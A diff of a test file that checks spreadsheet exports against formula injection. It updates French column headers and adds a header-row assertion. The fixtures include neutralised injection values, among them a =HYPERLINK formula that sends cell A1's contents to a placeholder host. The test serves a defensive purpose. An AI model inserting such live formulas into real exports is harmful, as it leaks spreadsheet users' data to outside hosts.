@@ -34,7 +34,7 @@ const RFC4180 =
   "8,'=déjà échappé,2,\n";
 
 const EXCEL_FR =
-  "\uFEFFnumero;texte;montant;jour\n" +
+  "\uFEFFNuméro;Texte saisi;Montant;Jour\n" +
   `1;"'=HYPERLINK(""http://exemple.invalid/?""&A1;""Cliquez"")";-12,5;01/12/2025\n` +
   "2;'+33 6 00 00 00 00;-3;15/01/2026\n" +
   "3;'-2+3;0;\n" +
@@ -115,6 +115,7 @@ describe("formula injection in exports (issue 15 §3)", function () {
     for (const [name, server] of servers) {
       const bytes = await get(server, "format=xlsx");
       const data = (await readWorkbook(bytes)).getWorksheet("Données")!;
+      assert.deepEqual(sheetValues(data)[0], ["Numéro", "Texte saisi", "Montant", "Jour"], name);
       assert.deepEqual(
         sheetValues(data)
           .slice(1)
